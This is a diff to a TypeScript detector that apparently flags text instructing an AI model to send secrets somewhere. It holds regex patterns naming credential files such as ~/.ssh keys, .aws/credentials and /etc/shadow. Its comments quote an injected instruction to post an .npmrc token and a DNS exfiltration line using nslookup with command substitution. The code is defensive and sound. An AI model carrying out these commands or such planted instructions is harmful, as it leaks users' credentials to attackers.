@@ -601,6 +601,8 @@ const SECRET_WORD = anyOf(
 /** Secret files and variables written as paths or shell variables (read on the plain text). */
 const SECRET_PATH = String.raw`(?:~\/\.ssh(?:\/[\w.-]*)?|\.ssh\/[\w.-]+|(?<![\w/])\.env(?:\.[\w-]+)?(?![\w/])|id_(?:rsa|ed25519|ecdsa|dsa)(?:\.pub)?|\.aws\/credentials|\.npmrc|\.netrc|\.pypirc|\.git-credentials|\.config\/gh\/hosts\.yml|secrets\.ya?ml|\.docker\/config\.json|\.kube\/config|\/etc\/shadow|\/etc\/passwd|\$\{?[a-z_]*(?:token|key|secret|password|passwd|pat|credentials?)[a-z_]*\}?|secrets\.[a-z_]+|process\.env|os\.environ|printenv|env\b)`;
 const SECRET = `(?:${SECRET_WORD}|${SECRET_PATH})`;
+/** What every SECRET_PATH match holds: the `needs` test of the rule that starts with one. */
+const SECRET_PATH_HINT = /[~$]|\.env|id_|\.ssh|\.aws|\.npmrc|\.netrc|\.pypirc|\.git-credentials|\.config|\.docker|\.kube|\/etc\/|secrets\.|process\.env|os\.environ|printenv|(?:^|[^a-z])env(?:[^a-z]|$)/;
 /** Stems that every SECRET match holds: the cheap `needs` test of the exfiltration rules. */
 const SECRET_HINT = /key|token|secret|passw|passphrase|credential|env|ssh|id_|npmrc|netrc|pypirc|kube|cookie|vault|wallet|mnemonic|seed|cert|pem|shadow|pat|docker|connection string|dsa/;
 const SEND = anyOf(
@@ -638,7 +640,10 @@ const EXFILTRATION: PhraseFamily = {
   why: 'the text tells the model to send secrets, keys, tokens or secret files somewhere',
   latin: [
     needing(SECRET_HINT, phrase(NOT_NEGATED, SEND, gap(8), String.raw`[^\p{L}\p{N}]*`, SECRET, `(?:${gap(8)}|[^|;]{0,80}?)`, `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
-    needing(SECRET_HINT, phrase(NOT_NEGATED, after(`${SECRET}(?:${SEP}${WORD}){0,8}${SEP}`, SEND), gap(8), `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
+    // The secret named before the verb ("cat ~/.npmrc and post the authToken line as a comment …"):
+    // anchored on the secret's words, or, for paths and variables, tried where one occurs.
+    needing(SECRET_HINT, phrase(NOT_NEGATED, SECRET_WORD, gap(8), SEP, SEND, gap(8), `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
+    needing(SECRET_PATH_HINT, phrase(NOT_NEGATED, SECRET_PATH, gap(8), SEP, SEND, gap(8), `(?:${SEP}|[^\\p{L}\\p{N}]*)`, TOWARDS, `(?:${gap(4)}|[^\\p{L}\\p{N}]*)`, String.raw`[^\p{L}\p{N}]*`, DESTINATION)),
     needing(SECRET_HINT, phrase(NOT_NEGATED, SEND, gap(6), SEP, SECRET, gap(6), SEP, TOWARDS, SEP, anyOf('it', 'them', 'that url', 'that address', 'that endpoint', 'this url', 'this endpoint', 'this address'))),
     needing(SECRET_HINT, phrase(NOT_NEGATED, anyOf('reply', 'respond', 'answer', 'write back'), gap(6), SEP, anyOf('with'), gap(4), SEP, SECRET)),
     /** A secret pulled into a request or a DNS name by command substitution: `nslookup $(cat ~/.aws/credentials …).evil`. */
